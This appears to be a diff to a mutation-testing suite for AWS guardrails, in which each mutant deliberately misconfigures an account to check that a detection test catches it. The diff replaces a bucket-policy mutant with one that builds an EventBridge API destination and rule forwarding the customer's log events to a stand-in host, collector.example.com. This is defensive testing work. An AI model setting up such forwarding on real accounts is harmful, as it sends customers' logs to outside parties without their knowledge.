@@ -124,22 +124,27 @@ def _forward(site: Site) -> None:
     events.put_targets(Rule="bulkhead-mutant", Targets=[{"Id": "1", "Arn": bus}])
 
 
-def _named_in_a_bucket(site: Site) -> None:
-    """A bucket of operations lets a fleet role in that its own policies do not."""
-    s3, bucket = site.client(site.operations, "s3"), "bulkhead-mutant-bucket"
-    where: Any = {"LocationConstraint": site.region}
-    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration=where)
-    statement = {
-        "Effect": "Allow",
-        "Principal": {"AWS": site.victim.role_arn},
-        "Action": "s3:PutObject",
-        "Resource": f"arn:aws:s3:::{bucket}/*",
-    }
-    policy = {"Version": "2012-10-17", "Statement": [statement]}
-    s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(policy))
+def _call_an_address(site: Site) -> None:
+    """An event rule of the customer posts to an address of somebody's."""
+    home = site.victims_home
+    events = site.client(home.account, "events", home.region)
+    connection = events.create_connection(
+        Name="bulkhead-mutant",
+        AuthorizationType="API_KEY",
+        AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "key", "ApiKeyValue": "value"}},
+    )
+    address = events.create_api_destination(
+        Name="bulkhead-mutant",
+        ConnectionArn=connection["ConnectionArn"],
+        InvocationEndpoint="https://collector.example.com/",
+        HttpMethod="POST",
+    )
+    events.put_rule(Name="bulkhead-mutant", EventPattern='{"source": ["aws.logs"]}')
+    events.put_targets(
+        Rule="bulkhead-mutant", Targets=[{"Id": "1", "Arn": address["ApiDestinationArn"]}]
+    )
 
 
-NEVER = {"ForAnyValue:StringNotEquals": {"aws:PrincipalOrgPaths": ["o-none/*"]}}
 GUARDRAILS = (
     Mutant(
         "G01-detached",
@@ -246,11 +251,11 @@ GUARDRAILS = (
         "test_no_events_leave",
     ),
     Mutant(
-        "C10",
-        "a bucket's policy lets a fleet role in",
-        "role chaining",
-        _named_in_a_bucket,
-        (Notice("resource-policies"),),
-        "test_no_resource_of_operations",
+        "O16-address",
+        "a customer's events are posted to an address of the internet",
+        "logs",
+        _call_an_address,
+        (Notice("event-rules"),),
+        "test_no_events_leave",
     ),
 )
